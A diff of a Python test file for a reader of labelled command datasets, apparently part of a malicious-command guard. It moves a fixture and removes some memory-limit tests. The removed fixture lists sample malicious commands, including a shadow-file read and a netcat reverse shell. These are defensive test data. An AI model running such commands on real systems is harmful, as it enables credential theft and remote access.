@@ -1,10 +1,7 @@
 """Starter data, aegish command sets, tables with and without a mapping; what is left out, and what is refused."""
 
 import json
-from collections import Counter
-from collections.abc import Callable
 from pathlib import Path
-from typing import Any
 
 import pyarrow as pa
 import pyarrow.parquet as pq
@@ -12,23 +9,9 @@ import pytest
 
 from core.errors import SourceError
 from suites.base import Dataset
-from suites.base.sources import Record, read_table, summary
+from suites.base.sources import summary
 from suites.command_guard.sources.read import read_dataset
-
-ROWS = [
-    {"command": "ls -l", "label": "harmless"},
-    {"command": "cat /etc/shadow", "label": "malicious", "category": "file-read", "difficulty": "plain"},
-    {"command": "nc -e /bin/sh 192.0.2.10 4444", "label": "malicious", "category": "reverse-shell"},
-]
-
-
-def write_lines(path: Path, *rows: Any) -> str:
-    path.write_text("".join(json.dumps(row) + "\n" for row in rows), encoding="utf-8")
-    return str(path)
-
-
-def left_out(dataset: Dataset) -> Counter[str]:
-    return Counter(left.reason for left in dataset.skipped)
+from tests.suites.command_guard.sources.datasets import ROWS, left_out, write_lines
 
 
 def commands(dataset: Dataset) -> list[tuple[str, str | None, str | None]]:
@@ -177,13 +160,6 @@ def test_every_flaw_of_a_line_has_its_reason_and_the_rest_goes_on(tmp_path: Path
         assert len(left.payload) < 10_100
 
 
-def test_duplicates_by_design_have_no_payload(tmp_path: Path) -> None:
-    dataset = read_dataset(write_lines(tmp_path / "set.jsonl", *ROWS, ROWS[0], ROWS[1] | {"category": "upload"}))
-    assert left_out(dataset) == {"duplicate": 2}
-    assert [left.payload for left in dataset.skipped] == [None, None]
-    assert dataset.samples[1].category == "file-read"
-
-
 def test_csv_rows_that_do_not_fit_are_left_out(tmp_path: Path) -> None:
     path = tmp_path / "set.csv"
     path.write_bytes(
@@ -290,51 +266,6 @@ def test_text_that_is_not_utf8_in_parquet_is_refused(tmp_path: Path) -> None:
     pq.write_table(pa.table({"command": column, "label": ["harmless"]}), tmp_path / "set.parquet")
     with pytest.raises(SourceError, match="cannot be read as Parquet after row 0"):
         read_dataset(str(tmp_path / "set.parquet"))
-
-
-def _most_memory_of_arrow(monkeypatch: pytest.MonkeyPatch, read: Callable[[], object]) -> int:
-    """How many bytes Arrow held at once, while a file was read."""
-    usual = pa.default_memory_pool()
-    counting = pa.proxy_memory_pool(usual)
-    pa.set_memory_pool(counting)
-    try:
-        read()
-    finally:
-        pa.set_memory_pool(usual)
-    most = counting.max_memory()
-    assert most is not None
-    return int(most)
-
-
-def test_a_long_cell_that_is_stored_once_and_stands_in_every_row_takes_little_memory(
-    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
-) -> None:
-    file = tmp_path / "set.parquet"
-    once = pa.DictionaryArray.from_arrays(pa.array([0] * 2000, pa.int32()), pa.array(["x" * 2**20]))
-    pq.write_table(pa.table({"command": once, "label": ["harmless"] * 2000}), file, compression="zstd")
-    assert file.stat().st_size < 5000
-    monkeypatch.setattr("suites.base.sources.LARGEST_CHUNK", 32 * 2**20)  # so that little is enough to see it
-    most = _most_memory_of_arrow(monkeypatch, lambda: sum(1 for _ in read_table(file, ["command"])))
-    assert most < 3 * 32 * 2**20
-
-
-def test_a_list_of_a_thousand_long_cells_in_one_row_is_not_unpacked(
-    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
-) -> None:
-    file = tmp_path / "set.parquet"
-    once = pa.DictionaryArray.from_arrays(pa.array([0] * 1000, pa.int32()), pa.array(["x" * 2**20]))
-    extra = pa.ListArray.from_arrays(pa.array([0, 1000], pa.int32()), once)
-    table = pa.table({"command": ["ls"], "label": ["harmless"], "extra": extra, "few": [["a", "b"]]})
-    pq.write_table(table, file, compression="zstd", store_schema=False)
-    assert file.stat().st_size < 5000
-    read: list[object] = []
-    most = _most_memory_of_arrow(monkeypatch, lambda: read.extend(read_table(file, ["command"])))
-    assert most < 16 * 2**20
-    (record,) = read
-    assert isinstance(record, Record)
-    assert record.values == {"command": "ls", "label": "harmless", "few": ["a", "b"]}
-    with pytest.raises(SourceError, match="has lists in the column 'extra'"):
-        list(read_table(file, ["extra"]))
 
 
 def test_a_column_that_cannot_be_unpacked_is_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
